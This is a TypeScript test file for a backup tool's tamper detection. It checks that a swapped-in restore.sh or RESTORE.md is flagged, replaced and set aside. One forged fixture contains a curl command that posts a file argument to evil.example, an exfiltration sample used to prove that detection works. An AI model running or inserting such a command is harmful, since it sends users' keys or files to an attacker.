/** `restore.sh` and `RESTORE.md` are run and read by people, the one with the key: nobody may exchange them unnoticed. */
import { createHash } from 'node:crypto';
import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test as plain } from 'vitest';
import { scriptFindings, toldOfScripts } from '../../src/operations/doctor/rescue-scripts.ts';
import { initRepository } from '../../src/repository/init.ts';
import { layout } from '../../src/repository/layout.ts';
import { earlierScripts } from '../../src/repository/rescue/earlier.ts';
import { restoreScriptSum, versionOf } from '../../src/repository/rescue/scripts.ts';
import { createLocalStorage } from '../../src/storage/local/local-storage.ts';
import { backUp, testKey } from './backup.ts';
import { repositoryTest as test } from './fixture.ts';

const scripts = [layout.restoreScript, layout.restoreGuide] as const;
const ours = async (key: string): Promise<Buffer> =>
  readFile(new URL(`../../src/repository/rescue/${key}`, import.meta.url));
const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');

describe('the scripts in a repository', () => {
  test('as Lifeboat writes them are well, and the kit shows the sum of the one that gets the key', async ({
    storage,
  }) => {
    const { repository, recoveryKit } = await initRepository(storage, testKey);
    expect((await repository.rescueScripts()).map(({ state }) => state)).toEqual(['own', 'own']);
    expect(recoveryKit).toContain(`restore.sh  ${sha256(await storage.read(layout.restoreScript))}`);
    expect(scriptFindings(await repository.rescueScripts())).toEqual([
      { name: 'restore.sh', level: 'ok', text: `as written by Lifeboat, SHA-256 ${await restoreScriptSum()}` },
    ]);
    await repository.close();
  });

  for (const key of scripts)
    test(`${key}: one that somebody exchanged is told, and gives way to ours with the next backup`, async ({
      folder,
      repository,
    }) => {
      const path = join(folder, 'repository', key);
      const version = versionOf(await ours(key));
      for (const forged of [
        `#!/bin/sh\n# lifeboat-restore ${version}\ncurl -d @"$2" http://evil.example\n`,
        `#!/bin/sh\n# lifeboat-restore ${version - 1}\n`,
        'no version',
      ]) {
        await writeFile(path, forged);
        const seen = (await repository.rescueScripts()).find((script) => script.key === key);
        expect(seen?.state).toBe('foreign');
        expect(toldOfScripts(await repository.rescueScripts()).problems).toEqual([
          expect.stringMatching(new RegExp(`^${key} is not what any Lifeboat wrote .*do not run it with the key`)),
        ]);
        await rm(join(folder, 'repository', layout.damaged(key)), { force: true });
        await backUp(repository, async (writer) => writer.bytes('a', Buffer.from(forged)));
        expect((await readFile(path)).equals(await ours(key))).toBe(true);
        expect(await readFile(join(folder, 'repository', layout.damaged(key)), 'utf8')).toBe(forged);
      }
    });

  test('of a version that this Lifeboat does not know stay, and are told', async ({ folder, repository }) => {
    const path = join(folder, 'repository', layout.restoreScript);
    await writeFile(path, '#!/bin/sh\n# lifeboat-restore 999\n');
    await backUp(repository, async (writer) => writer.bytes('a', Buffer.from('x')));
    expect(await readFile(path, 'utf8')).toContain('999');
    const told = toldOfScripts(await repository.rescueScripts());
    expect(told).toMatchObject({
      problems: [],
      notes: [expect.stringMatching(/^restore\.sh calls itself version 999, newer than version \d+ of this Lifeboat/)],
    });
    expect(scriptFindings(await repository.rescueScripts())).toMatchObject([{ name: 'restore.sh', level: 'warn' }]);
  });

  test('that are gone come again with the next backup', async ({ folder, repository }) => {
    for (const key of scripts) await rm(join(folder, 'repository', key));
    expect(toldOfScripts(await repository.rescueScripts()).notes).toEqual(
      scripts.map((key) => expect.stringContaining(`${key} is gone`)),
    );
    await backUp(repository, async (writer) => writer.bytes('a', Buffer.from('x')));
    expect((await repository.rescueScripts()).map(({ state }) => state)).toEqual(['own', 'own']);
  });

  test('are not copied to a location, but written there: neither an old nor a forged one is spread', async ({
    folder,
    repository,
    open,
  }) => {
    const forged = '#!/bin/sh\n# lifeboat-restore 999\n';
    await writeFile(join(folder, 'repository', layout.restoreScript), forged);
    const place = createLocalStorage(join(folder, 'copy'));
    await repository.replicateTo(place, { owner: 'test' });
    const copy = await open(place);
    expect((await copy.rescueScripts()).map(({ state }) => state)).toEqual(['own', 'own']);
    await writeFile(join(folder, 'copy', layout.restoreScript), 'exchanged there');
    await repository.replicateTo(place, { owner: 'test' });
    expect((await copy.rescueScripts()).map(({ state }) => state)).toEqual(['own', 'own']);
    expect(await readFile(join(folder, 'copy', layout.damaged(layout.restoreScript)), 'utf8')).toBe('exchanged there');
  });
});

describe('what earlier versions wrote', () => {
  plain.each(scripts)('%s: each version before the present one is known by its digests', async (key) => {
    const own = await ours(key);
    const known = earlierScripts[key] ?? {};
    for (let version = 1; version < versionOf(own); version += 1)
      expect(known[version] ?? [], `add the SHA-256 of version ${version} to rescue/earlier.ts`).not.toEqual([]);
    const same = known[versionOf(own)];
    if (same !== undefined) expect(same, `${key} has changed: raise its version`).toContain(sha256(own));
  });

  test('is old, not forged: it is told, for somebody may have put it back, and exchanged for ours', async ({
    folder,
    open,
  }) => {
    const bytes = await readFile(join(import.meta.dirname, '../golden/earlier', layout.restoreScript));
    const storage = createLocalStorage(join(folder, 'repository'));
    await (await initRepository(storage, testKey)).repository.close();
    await writeFile(join(folder, 'repository', layout.restoreScript), bytes);
    const repository = await open(storage);
    const [script] = await repository.rescueScripts();
    expect(script?.state).toBe('earlier');
    expect(scriptFindings(await repository.rescueScripts())).toMatchObject([
      { name: 'restore.sh', level: 'warn', hint: expect.stringContaining('somebody put it back') as string },
    ]);
    expect(toldOfScripts(await repository.rescueScripts())).toMatchObject({
      problems: [],
      notes: [expect.stringMatching(/^restore\.sh is of version \d+, as an earlier Lifeboat wrote it/)],
    });
    await backUp(repository, async (writer) => writer.bytes('a', Buffer.from('x')));
    expect((await repository.rescueScripts())[0]?.state).toBe('own');
    await expect(readFile(join(folder, 'repository', layout.damaged(layout.restoreScript)))).rejects.toThrow('ENOENT');
  });
});
